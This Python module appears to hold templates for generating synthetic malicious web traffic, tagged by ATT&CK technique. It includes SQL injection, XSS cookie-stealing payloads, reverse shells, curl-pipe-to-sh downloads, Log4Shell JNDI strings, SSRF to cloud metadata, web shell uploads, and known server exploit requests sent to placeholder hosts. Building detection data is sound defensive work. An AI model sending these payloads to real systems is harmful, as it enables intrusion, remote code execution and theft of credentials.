"""Web attack payloads by technique, and whole requests that are attacks by themselves. Rows for web.py.

PAYLOADS are values: web.py puts them where daily work puts its own. REQUESTS are written like rows of
web_daily.py. All are inert text.
"""
from __future__ import annotations

from .table import table

PAYLOADS = table(r"""
# T1190 sql injection
««num:1:99»|-«num:1:99»|»«'|"|')|'))|")|)|»« |/**/|+|  »«or|OR|Or|and|AND|¦¦»« |/**/|+»«1=1|'1'='1|'a'='a|«num:100:9999»=«num:100:9999»|"1"="1|1 like 1|true|'x' LIKE 'x|2>1|not 1=2|1=1 limit 1»«--|-- |#|/*|;--||-- -|%23|;%00»
«'|"|)|'))|»« |/**/»«union|UNION|UnIoN|/*!50000union*/|union all|UNION ALL|union distinct»« |/**/|+|%0a»«select|SELECT|SeLeCt|/*!select*/»« |/**/»«null,null,null|1,2,3,«num:4:12»|NULL,concat(0x«hex:10»,user(),0x«hex:10»),NULL|username,password,3|@@version,2,3|group_concat(table_name),2 from information_schema.tables|1,load_file('/etc/passwd'),3|«num:1000:9999»,«num:1000:9999»,«num:1000:9999»|login,pwd from «word»_users»«--|-- |#||-- «mixed:4»»
«1|«num:1:99»|»«'|"|)|»; «drop table «word»s|DROP TABLE users|insert into users values('«word»','«mixed:6»')|update users set password='«mixed:6»'|delete from «word»|exec master..xp_cmdshell 'ping «peer»'|shutdown|declare @q varchar(99);exec(@q)|truncate table «word»|create user «letters:5»|alter table «word» add x int»«--|;--|-- -|»
«num:1:99»«'|"|)|')|'))|"))|»« |/**/»«and|or|AND|OR|;|¦¦» «sleep(«num:3:15»)|SLEEP(5)='|benchmark(«num:1000000:9999999»,md5('«mixed:4»'))|(select*from(select(sleep(«num:3:20»)))a)|pg_sleep(«num:3:15»)|waitfor delay '0:0:«num:3:15»'|dbms_pipe.receive_message('«letters:3»',«num:3:10»)|(select count(*) from generate_series(1,«num:1000000:9000000»))|1=(select «num:100:9999» from pg_sleep(5))|like(«letters:7»,upper(hex(randomblob(«num:100000000:500000000»/2))))»«--|#||-- «letters:4»| and '«letters:4»'='«letters:4»»
«num:1:99» and «extractvalue(1,concat(0x7e,(select «version()|user()|database()»)))|updatexml(1,concat(0x7e,(«select @@version|select user()»),0x7e),1)|(select 1 from (select count(*),concat(0x«hex:8»,floor(rand(0)*2))x from information_schema.tables group by x)a)|1=convert(int,(select @@version))|ascii(substring((select database()),«num:1:9»,1))>«num:60:120»|exists(select * from «word»)|(select case when («num:1000:9999»=«num:1000:9999») then 1 else 0 end)=1|ord(mid((select ifnull(cast(schema_name as nchar),0x20)),«num:1:9»,1))>«num:30:120»|length(user())=«num:3:14»|substr(password,1,1)='«letters:1»'|(select utl_inaddr.get_host_address('«domain»') from dual) is not null|cast((chr(113)¦¦chr(«num:97:122»)¦¦chr(113)) as numeric)=1|elt(«num:1000:9999»=«num:1000:9999»,1)|make_set(1=1,2)|row(1,2)>(select count(*),concat(version(),floor(rand(0)*2))x group by x limit 1)|json_keys((select convert((select concat(0x«hex:8»)) using utf8)))»
«admin|root|«first»|»«'--|' #|"--|') or ('1'='1|' or ''='|'/*|'or 1=1 limit 1 -- -+|' or 1=1#|'='|' ¦¦ '1'='1|'; --|"=""or"|' and 1=0 union all select 'admin','«hex:32»»
«num:1:99» «order|ORDER|group|having» «by|BY|» «num:1:30»«--|#|-- »
«'|"|')|\'|%27|''|';|'"|`|'¦¦'|"))((("|'."),(('(.»
(select «load_file|char|concat»(«num:47:122»,«num:47:122»,«num:47:122»))
{"«$ne|$gt|$regex|$where»":"«|.*|^a|this.password.length>0|sleep(5000)»"}
«'|"» || «this.password.match(/.*/)|1==1|db.users.find()|sleep(5000)» //
1;«select|SELECT» «pg_sleep(9)|sleep(9)|* from information_schema.columns|lo_import('/etc/passwd')|version()»;--
«num:1:99» procedure analyse(extractvalue(«num:1:9999»,concat(0x5c,0x«hex:8»)),1)
«num:1:99»«'|"|»+«and|or»+«num:1:9»=«num:1:9»+union+select+0x«hex:16»,0x«hex:16»,0x«hex:16»#
# T1189 cross-site scripting
«"|'|">|'>|</title>|</script>|</textarea>|--><!--|»<«script|SCRIPT|ScRiPt|scr<script>ipt»>«alert(«1|document.cookie|'XSS'|"«mixed:4»"|String.fromCharCode(88,83,83)|document.domain|/xss/|«num:1:9999»»)|eval(atob('«b64:24»'))|confirm(«num:1:9»)|prompt`1`|document.location='http://«domain»/c?'+document.cookie|new Image().src='//«domain»/?'+document.cookie|fetch('//«domain»/'+btoa(document.cookie))|window.onload=function(){document.forms[0].action='http://«peer»'}»«</script>|</ScRiPt>|//|;//»
«"|'|">|'>|»<«img|image|IMG» src=«x|a|'x'|#|javascript:alert(1)|"javascript:alert('XSS')"|«mixed:3»» «onerror|OnErRoR|onload»=«alert(1)|alert`1`|prompt(«num:1:99»)|eval('al'+'ert(1)')|"javascript:document.write('«word»')"|confirm(document.domain)|this.src='//«domain»/?'+document.cookie»«>|/>|//>|»
«"|'|»><«svg|body|iframe|details open|video|audio|input autofocus|marquee|object|embed|select|isindex|math|keygen|button»«/| |%0a|	»«onload|ontoggle|onfocus|onstart|onerror|onmouseover|onpageshow|onanimationstart»=«alert(1)|alert(document.cookie)|confirm`1`|prompt(1)|top['al'+'ert'](1)|import('//«domain»/x.js')|location='javas'+'cript:alert(1)'»>
«"|'»« |%20»«onmouseover|onfocus|onclick|style|onblur»=«"|'|»«alert(1)|alert(document.cookie)|prompt(«num:1:9999»)|x:expression(alert(1))»«"|'|» «bad="|autofocus|x="|a='»
javascript:«alert(1)|alert(document.cookie)|//%0aalert(1)|eval('«b64:12»')|document.write('<iframe src=//«domain»>')»
<iframe src=«"javascript:alert(1)"|//«domain»/«word»|data:text/html;base64,«b64:40»» «width=0 height=0|»></iframe>
<«a|form|meta|link|base|style» «href=javascript:alert(1)>x</a>|action=//«domain»><input type=submit>|http-equiv=refresh content="0;url=//«domain»">|rel=stylesheet href=//«domain»/x.css>|href=//«domain»/>|>@import'//«domain»/x.css';</style>»
«{{constructor.constructor('alert(1)')()}}|${alert(1)}|<%= alert(1) %>|{{$on.constructor('alert(1)')()}}»
'-alert(1)-'
\";alert(«num:1:99»);//
<ScRiPt >«mixed:4»(«num:1000:9999»)</sCripT>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
# T1083 path traversal
«../|..\|..%2f|....//|..%5c|%2e%2e/|..%252f|..%c0%af|..;/|/../|.../...//|..//»«../../|../../../|../../../../|....//....//|..\..\..\|..%2f..%2f..%2f|../../../../../../../»«etc/passwd|etc/shadow|etc/hosts|windows/win.ini|windows\win.ini|boot.ini|proc/self/environ|var/log/apache2/access.log|WEB-INF/web.xml|inetpub/wwwroot/web.config|root/.ssh/id_rsa|home/«first»/.bash_history|etc/passwd%00|etc/passwd%00.jpg|windows/system32/drivers/etc/hosts|app/config/database.yml|.env|.aws/credentials|proc/version|etc/nginx/nginx.conf|winnt/win.ini|xampp/apache/conf/httpd.conf»
«/etc/passwd|/etc/shadow|/proc/self/environ|/etc/issue|c:\windows\win.ini|C:/boot.ini|file:///etc/passwd|file:///c:/windows/win.ini|/var/www/html/config.php|/proc/self/cmdline|/root/.bash_history|c:/inetpub/wwwroot/web.config|/usr/local/apache/conf/httpd.conf|/etc/passwd%00.html|/var/run/secrets/kubernetes.io/serviceaccount/token»
«php://filter/«convert.base64-encode|read=string.rot13»/resource=«index|config|../config|/etc/passwd»«.php|»|php://input|expect://«id|ls|whoami»|data://text/plain;base64,«b64:40»|phar://«word».jpg|zip://«word».zip%23«word».php|http://«peer»/«word».txt?|//«peer»/share/«word».php|ftp://«peer»/«word».php|https://«domain»/shell.txt»
# T1059.004 command injection
«;|¦|¦¦|&&|&|`|$(|%0a|%0d%0a|«num:1:99»;|«word»||"|»« |»«cat /etc/passwd|id|whoami|uname -a|ls -la /|ping -c «num:3:20» «peer»|wget http://«peer»/«letters:2:5».sh -O /tmp/«letters:2»;sh /tmp/«letters:2»|curl http://«peer»/|curl -s http://«domain»/x|sh|nc -e /bin/sh «peer» «port»|sleep «num:3:15»|nslookup «token:12».«domain»|/bin/bash -c 'bash -i >& /dev/tcp/«peer»/«port» 0>&1'|echo «b64:40»¦base64 -d¦sh|netstat -an|ifconfig|ps aux|cat${IFS}/etc/passwd|{cat,/etc/passwd}|dir c:\|type c:\windows\win.ini|net user|powershell -enc «psbad»|certutil -urlcache -f http://«peer»/a.exe a.exe|chmod 777 «word»|rm -rf /tmp/*|tftp -g -r «letters:4» «peer»|busybox «mixed:6»|set /a «num:100:999»*«num:100:999»|expr «num:100000:999999» + «num:100000:999999»»«|;|`|)|%00|#||'|||"»
«%24(«id|whoami»)|$(«id|whoami|curl «domain»»)|`«id|uname -a|curl «peer»`»|«word»|«word»&«ping|nslookup» «token:16».«domain»&»
# T1059 code and template injection
«{{|${|<%=|#{|*{|@(|[[${|{%|${{»«num:7:99»*«num:7:99»«}}|}|%>|}|}|)|}]]|%}|}}»
{{«config|self.__init__.__globals__.__builtins__|''.__class__.__mro__[«num:1:2»].__subclasses__()|request.application.__globals__.__builtins__.__import__('os').popen('«id|ls|cat /etc/passwd»').read()|cycler.__init__.__globals__.os.popen('id').read()|['id']|filter('system')|_self.env.registerUndefinedFilterCallback("exec")|lipsum.__globals__['os'].popen('id').read()»}}
${«T(java.lang.Runtime).getRuntime().exec('«id|calc|curl «peer»»')|@java.lang.Runtime@getRuntime().exec("id")|"freemarker.template.utility.Execute"?new()("id")|applicationScope|jndi:«ldap|rmi|dns»://«peer»:«port»/«token:5»»}
%{«(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«id|whoami|cat /etc/passwd»').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())|#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('«mixed:4»','«num:1:9999»')|(#a=@java.lang.Runtime@getRuntime().exec('id'))»}
«phpinfo()|system('«id|ls|whoami»')|passthru('id')|;phpinfo();|assert($_POST['«letters:1»'])|${@print(md5(«num:1:9999»))}|eval(base64_decode('«b64:40»'))|<?php system($_GET['«letters:1:3»']);?>|<?=`$_GET[0]`?>|print(md5(«num:1000:99999»))|die(md5(«mixed:6»))|exec("«id|ver»")|${print(«num:100:999»*«num:100:999»)}»
O:«num:4:30»:"«Word»«Word»":«num:1:4»:{s:«num:3:9»:"«word»";s:«num:3:30»:"«phpinfo();|/etc/passwd|system»";}
rO0AB«b64:120»
{"@type":"«com.sun.rowset.JdbcRowSetImpl|java.lang.AutoCloseable|org.apache.xbean.propertyeditor.JndiConverter»","dataSourceName":"«ldap|rmi»://«peer»:«port»/«Word»","autoCommit":true}
__import__('os').system('«id|curl «peer»|sleep 5»')
require('child_process').«exec|execSync»('«id|curl «peer»»')
class.module.classLoader.resources.context.parent.pipeline.first.pattern=%{c2}i if("«letters:1»".equals(request.getParameter("pwd")))
<!--#«exec cmd="«id|ls|cat /etc/passwd»"|include virtual="/etc/passwd"|echo var="DATE_LOCAL"»-->
# T1190 log4shell
${jndi:«ldap|ldaps|rmi|dns|iiop|corba|nis»://««peer»|«token:8:20».«domain»|${hostName}.«token:12».«domain»|«peer»:«port»|127.0.0.1#«peer»»«|:1389|:«port»»/«Basic/Command/Base64/«b64:40»|Exploit|a|«token:6»|${env:AWS_SECRET_ACCESS_KEY}|TomcatBypass/Command/Base64/«b64:32»|${java:version}»}
${${«lower:j|::-j|env:NaN:-j|upper:j|env:«mixed:4»:-j»}«ndi|${::-n}${::-d}${::-i}|${lower:n}di|${upper:n}${lower:d}i»«:|${::-:}|${env:NaN:-:}»«ldap|${lower:l}dap|rmi|${::-l}${::-d}${::-a}${::-p}»«://|${::-:}//»«peer»«|:«port»»/«token:4:8»}
# T1090 server-side request forgery
«http|https|gopher|dict|file|ftp|tftp|ldap»://«127.0.0.1|localhost|«imds»|[::1]|0.0.0.0|2130706433|0x7f000001|metadata.google.internal|«imds»|«imds»|127.1|[::ffff:127.0.0.1]|«ip2»|localtest.me|«token:10».«domain»»«|:22|:6379|:9200|:8500|:2375|:«port»»/«latest/meta-data/iam/security-credentials/«|admin|«word»-role»|computeMetadata/v1/instance/service-accounts/default/token|_*1%0d%0a$4%0d%0aINFO|metadata/instance?api-version=2021-02-01|v2/credentials/«guid»|_cat/indices|admin|server-status|info|latest/user-data|v1/agent/self|»
# T1190 ldap and xpath injection
«*|*)(uid=*))(¦(uid=*|*)(objectClass=*|«first»)(&)|*)(¦(password=*)|admin)(!(&(1=0|*)(&|x' or name()='username' or 'x'='y|' or count(/*)=1 or 'a'='b|'] ¦ //user/*[contains(*,'|*)(¦(mail=*)|admin*)((|userPassword=*)|' or 1=1 or ''='|//*[text()='«word»']|*))%00»
# T1190 xml external entity
<?xml version="1.0"?><!DOCTYPE «letters:1:4» [<!ENTITY «|% »«letters:1:4» SYSTEM "«file:///etc/passwd|http://«peer»/«letters:1:4».dtd|file:///c:/windows/win.ini|php://filter/read=convert.base64-encode/resource=index.php|expect://id|http://«imds»/latest/meta-data/»">«|%«letters:3»;»]><«word»>&«letters:1:4»;</«word»>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>
# T1190 header and response splitting
«word»%0d%0a«Set-Cookie: «word»=«mixed:6»|Location: http://«domain»|Content-Length: 0%0d%0a%0d%0aHTTP/1.1 200 OK|X-«Word»: «mixed:5»»
«num:1:99»%0D%0ASet-cookie%3A+«Tamper|«word»»%3D«num:1000:9999»
//«domain»/%2f..
https:«domain»
# T1190 overflow and tampering
«letters:1»AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA«mixed:2:40»
%n%n%n%n%s%s%s%n%x%x
%00
«num:1:9»«!!|@@«mixed:6»|bob@<script>alert(1)</script>.parosproxy.org|' sTYLe='acu:Expre/**/SSion(«mixed:4»(«num:1000:9999»))' bad='|%3cimg+src=acu»
-«num:99999:9999999»
«num:100000:999999»%c0%27%c0%22
""")

REQUESTS = table(r"""
# T1505.003 web shell
«GET|POST» /«uploads|images|wp-content/uploads/«year»|aspnet_client|owa/auth|tmp|cache|wp-includes|files|avatars|modules»/«shell|cmd|c99|r57|wso|b374k|up|x|«letters:3:6»|error|alfa|mini|indoxploit|tunnel|iisstart2|web|help|supp0rt|RedirSuiteServerProxy|TimeoutLogout|«token:8»».«php|aspx|jsp|ashx|asp|phtml|php5|jspx|php.jpg|cfm»«?cmd=‹«whoami|id|dir|ls -la|net user|cat /etc/passwd|ipconfig /all|type C:\inetpub\wwwroot\web.config|uname -a|systeminfo|wget http://«peer»/a -O /tmp/a»›|?c=‹«id|whoami»›|?exec=‹«whoami|ls»›|?pass=«mixed:6»&cmd=‹whoami›|?act=«ls|cmd|sql|f»|?x=‹system('id');›»
POST /«aspnet_client|owa/auth|images|uploads|ecp/auth»/«letters:4:8».«aspx|php|jsp» <<< ««letters:1:4»|pass|code|cmd|ant»=‹«Response.Write(new ActiveXObject("WScript.Shell").exec("cmd /c whoami").StdOut.ReadAll())|@eval(base64_decode($_POST[«letters:2»]));|@ini_set("display_errors","0");@set_time_limit(0);echo "->|";|system("«whoami|net localgroup administrators»");|«b64:200»»›
POST /«upload|fileupload|filemanager/upload|admin/upload|wp-admin/admin-ajax.php|ueditor/php/controller» <<< filename=‹«letters:4:8».«php|phtml|jsp|aspx|php%00.jpg|asp;.jpg|phar»›&content=‹«<?php @eval($_POST['«letters:3»']);?>|<?php system($_REQUEST["cmd"]); ?>|<%@ Page Language="Jscript"%><%eval(Request.Item["«letters:4»"],"unsafe");%>|<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>»›
PUT /«letters:4:8».«jsp|php|asp|txt|jsp/|jsp%20» <<< «<%out.print(«num:100:999»);%>|<?php echo md5(«num:1:999»);?>|«mixed:12»»
MOVE /«letters:5».txt
# T1595.002 scanner
GET /«.env|.git/config|.git/HEAD|.svn/entries|.DS_Store|.aws/credentials|wp-config.php.bak|config.php~|backup.sql|dump.sql.gz|db.sql|web.config.old|.htpasswd|.htaccess|id_rsa|.ssh/id_rsa|server-status|phpinfo.php|info.php|test.php|.env.«production|local|bak|old»|.vscode/sftp.json|config.json|docker-compose.yml|.npmrc|.bash_history|composer.json|storage/logs/laravel.log|actuator/«env|heapdump|gateway/routes»|.well-known/../.env|wp-config.php.«save|swp|txt»|api/.env|application.properties|secrets.yml|«site».zip|«site».sql|www.rar|«sitedomain».tar.gz»
GET /«phpMyAdmin-2.«num:5:11».«num:0:9»|pma|myadmin|mysqladmin|phpmyadmin2|dbadmin|sqlmanager|phpma|MyAdmin»/«scripts/setup.php|index.php|»
GET /«manager/html|jmx-console/|web-console/|invoker/JMXInvokerServlet|admin-console/login.seam|host-manager/html|solr/admin/info/system?wt=json|console/login/LoginForm.jsp|wls-wsat/CoordinatorPortType|struts2-showcase/index.action|axis2/axis2-admin/|hudson/script|jenkins/script|script|cgi-bin/test-cgi|cgi-bin/printenv.pl|HNAP1/|boaform/admin/formLogin|GponForm/diag_Form?images/|setup.cgi?next_file=netgear.cfg|shell?cd+/tmp;rm+-rf+*;wget+«peer»/jaws;sh+/tmp/jaws|ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application|remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession|vpn/../vpns/cfg/smb.conf|dana-na/../dana/html5acc/guacamole/../../../../../../etc/passwd?/dana/html5acc/guacamole/|tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd|mifs/.;/services/LogService|_ignition/execute-solution|telescope/requests|owa/auth/x.js|autodiscover/autodiscover.json?@«domain»/mapi/nspi/?&Email=autodiscover/autodiscover.json%3f@«domain»|cgi-bin/authLogin.cgi|nagiosxi/login.php|zabbix.php?action=«word».view|geoserver/wfs?service=WFS&request=GetPropertyValue&valueReference=exec(java.lang.Runtime.getRuntime(),'id')|sdk/../../../../etc/passwd|%c0%ae%c0%ae/WEB-INF/web.xml|index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=«word»|vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php|?XDEBUG_SESSION_START=phpstorm|wp-content/plugins/«revslider/temp/update_extract/«word».php|wp-file-manager/lib/php/connector.minimal.php|duplicator/readme.txt|mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd|«word»-«word»/readme.txt»|wp-json/wp/v2/users|?author=«num:1:9»|xmlrpc.php?rsd|wp-login.php?action=register|nmaplowercheck«epoch»|Trinity.txt.bak|sitecore/shell/sitecore.version.xml|Telerik.Web.UI.WebResource.axd?type=rau|CFIDE/administrator/enter.cfm|nice%20ports%2C/Tri%6Eity.txt%2ebak|«mixed:8».«jsp|cfm|asp|html»|PSIA/index|onvif-http/snapshot?auth=YWRtaW46MTEK|currentsetting.htm|luci/;stok=/locale?form=country|login.cgi?cli=aa%20aa%27;wget%20http://«peer»/«letters:3».sh%20-O%20-%3E%20/tmp/kh;sh%20/tmp/kh%27$»
POST /«cgi-bin/ViewLog.asp|cgi-bin/nobody/Search.cgi?action=cgi_query|tmUnblock.cgi|UD/act?1|picsdesc.xml|wanipcn.xml|apply_sec.cgi|goform/set_LimitClient_cfg|cgi-bin/supervisor/CloudSetup.cgi?exefile=wget|boaform/admin/formPing» <<< «remote_submit_Flag=1&remote_syslog_Flag=1&RemoteSyslogSupported=1&LogFlag=0&remote_host=%3bcd+/tmp;wget+http://«peer»/«letters:4».arm7;chmod+777+«letters:4».arm7;./«letters:4».arm7|submit_button=&change_action=&action=&commit=0&ttcp_num=2&ttcp_size=2&ttcp_ip=-h+`cd+/tmp;wget+http://«peer»/a.sh;sh+a.sh`|<NewInternalClient>`cd /tmp; wget http://«peer»/«letters:4» -O /tmp/«letters:4»; chmod +x /tmp/«letters:4»`</NewInternalClient>|target_addr=%3Brm%20-rf%20/var/tmp/wlancont%3Bwget%20http://«peer»/«letters:4»»
CONNECT «peer»:«25|443|22»
TRACE /
GET http://«domain»/«azenv.php|proxychecker/check.php|»
PROPFIND /
DEBUG /Default.aspx
GET /«word»/«admin|backup|old|test|dev|.git|private|temp|config|db|logs»«|/|.bak|.old|.zip|~|.swp|.tar.gz|.orig»
# T1595.003 word list
GET /«admin|administrator|backup|backups|old|test|dev|tmp|temp|config|conf|db|data|logs|log|private|secret|internal|install|setup|upload|uploads|files|include|includes|inc|lib|src|cgi-bin|bin|mail|webmail|cache|media|images|stats|api|console|portal|manager|dashboard|login|user|users|account|accounts|panel|cpanel|phpinfo|info|server-info|status|debug|trace|export|import|dump|archive|download|downloads|docs|readme|license|changelog|hidden|staging|beta|demo|shop|blog|forum|wiki|git|svn|jenkins|grafana|kibana»«|/|.php|.html|.txt|.bak|.old|.zip|.tar.gz|.asp|.aspx|.jsp|.xml|.json|.sql|.log|~»
HEAD /«_|.|»«admin|backup|cache|common|conf|config|css|data|database|db|dev|files|images|img|inc|include|install|js|layouts|lib|media|mem_bin|mm|notes|old|overlay|pages|private|res|resources|scriptlibrary|scripts|source|src|stats|styles|swf|temp|template|tmp|vti_bin|www|archive|assets|awstats»
GET /«word»«|/|.php|.bak»
GET /«wp-content/plugins/«word»-«word»/readme.txt|wp-content/themes/«word»/style.css|wp-json/wp/v2/users|?author=«num:1:20»|wp-content/debug.log|xmlrpc.php|wp-config.php.«bak|old|save|swp|txt»|components/com_«word»/|modules/mod_«word»/|administrator/manifests/files/joomla.xml|CHANGELOG.txt|sites/default/settings.php»
GET /«nmaplowercheck«epoch»|NmapUpperCheck«epoch»|nice%20ports%2C/Tri%6Eity.txt%2ebak|HNAP1|sdk|evox/about|CVS/Entries|crossdomain.xml.old»
# T1110 login guessing
POST /«wp-login.php|administrator/index.php|login.action|user/login|j_spring_security_check|admin/login.php|manager/html|api/login|cgi-bin/luci|phpmyadmin/index.php» <<< «log|username|user|j_username|login|pma_username»=«admin|root|test|administrator|user|guest|«first»»&«pwd|password|passwd|j_password|pma_password»=«admin|123456|password|admin123|qwerty|root|12345678|letmein|P@ssw0rd|toor|«word»123|changeme|«site»2024»&«wp-submit=Log+In|submit=Login|redirect_to=»
POST /xmlrpc.php <<< <?xml version="1.0"?><methodCall><methodName>«wp.getUsersBlogs|system.multicall|wp.getUsers|metaWeblog.newPost»</methodName><params><param><value>«admin|root|«first»»</value></param><param><value>«admin123|123456|«word»«num:1:999»|P@ssw0rd»</value></param></params></methodCall>
# T1213 api walked through
GET /api/v«num:1:3»/«users|accounts|customers|orders»/«num:1:99999»?«role=admin|debug=true|include=password_hash,reset_token,mfa_secret|fields=*&limit=100000»
POST /graphql <<< {"query":"{__schema{types{name fields{name args{name}}}}}"}
PATCH /api/v«num:1:3»/users/«me|«num:1:99»» <<< {"«role|is_admin|isAdmin|permissions»":"«admin|true|*»","name":"«First»"}
# T1203 server exploit
POST /«wls-wsat/CoordinatorPortType|_async/AsyncResponseService» <<< <soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c</string></void><void index="2"><string>«shbadtext»</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header></soapenv:Envelope>
POST /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php <<< <?php «echo md5("«word»");|system("«id|curl http://«peer»/«letters:2».sh|sh»");»
POST /cgi-bin/«.%2e/.%2e/.%2e/.%2e|%%32%65%%32%65/%%32%65%%32%65/%%32%65%%32%65|.%%32%65/.%%32%65/.%%32%65»/bin/sh <<< echo Content-Type: text/plain; echo; «id|curl http://«peer»/«letters:2».sh | sh|uname -a»
POST /_ignition/execute-solution <<< {"solution":"Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution","parameters":{"variableName":"«word»","viewFile":"phar:///var/www/storage/logs/laravel.log/«word».txt"}}
POST /mgmt/tm/util/bash <<< {"command":"run","utilCmdArgs":"-c «id|'curl «peer»|sh'»"}
POST /api/jsonws/invoke <<< {"cmd":"{\"/expandocolumn/update-column\":{}}","defaultData:com.mchange.v2.c3p0.WrapperConnectionPoolDataSource":"{\"userOverridesAsString\":\"HexAsciiSerializedMap:ACED0005«HEX:60»\"}"}
POST /ecp/y.js <<< «mixed:12»
POST /autodiscover/autodiscover.json?a=«mixed:5»@«domain»/powershell/?X-Rps-CAT=«b64:120» <<< <s:Envelope><cmd>New-MailboxExportRequest -Mailbox «person» -FilePath \\127.0.0.1\C$\inetpub\wwwroot\aspnet_client\«letters:6».aspx</cmd></s:Envelope>
POST /index.php?s=captcha <<< _method=__construct&filter[]=«system|phpinfo|assert»&method=get&server[REQUEST_METHOD]=«id|whoami|-1»
POST /solr/«word»/config <<< {"update-queryresponsewriter":{"startup":"lazy","name":"velocity","class":"solr.VelocityResponseWriter","params.resource.loader.enabled":"true"}}
POST /functionRouter <<< spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec("«curl «peer»|id»")
POST /containers/create <<< {"Image":"alpine","Cmd":["/bin/sh","-c","chroot /mnt sh -c 'curl http://«peer»/«letters:3».sh|sh'"],"HostConfig":{"Binds":["/:/mnt"],"Privileged":true}}
POST /ws/v1/cluster/apps <<< {"application-id":"application_«epoch»_0001","application-name":"«letters:6»","am-container-spec":{"commands":{"command":"wget -q -O - http://«peer»/«letters:2».sh | sh"}},"application-type":"YARN"}
""")

#: Agents of tools that try the words of a list, most of which pretend to be browsers.
LIST_AGENTS = ("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)", "gobuster/3.«num:0:6»", "Fuzz Faster U Fool v2.«num:0:1».0-dev", "feroxbuster/2.«num:3:10».0",
               "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
               "WPScan v3.8.«num:1:25» (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.00 (Nikto/2.1.«num:5:6») (Evasions:None) (Test:«num:1:9999»)", "Wfuzz/3.1.0",
               "Mozilla/5.0 (Windows NT 6.1; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/«num:30:60».0.«num:1000:3000».0 Safari/537.36", "python-requests/2.«num:20:31».0",
               "Mozilla/5.0 (X11; Linux x86_64; rv:«num:60:115».0) Gecko/20100101 Firefox/«num:60:115».0", "-", "curl/7.«num:50:88».0")
AGENTS = ("sqlmap/1.«num:4:8».«num:1:12»#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.1.«num:5:6») (Evasions:None) (Test:«num:1:9999»)", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
          "Mozilla/5.0 zgrab/0.x", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "gobuster/3.«num:0:6»", "Fuzz Faster U Fool v2.«num:0:1».0", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "WPScan v3.8.«num:1:25» (https://wpscan.com/wordpress-security-scanner)", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "Hello, World", "Morfeus Fucking Scanner", "ZmEu", "feroxbuster/2.«num:3:10».0",
          "Arachni/v1.«num:3:6»", "w3af.org", "Acunetix-Product", "${jndi:ldap://«peer»:1389/«token:5»}", "() { :; }; /bin/bash -c 'curl http://«peer»/«letters:3»|sh'", "jndi:${lower:l}dap", "python-requests/2.«num:20:31».0", "Go-http-client/1.1", "curl/7.«num:50:88».0", "-", "libwww-perl/6.«num:5:60»", "Wget/1.«num:12:21»", "Hydra", "commix/v3.«num:1:9»-stable", "Wfuzz/3.1.0", "Havij")
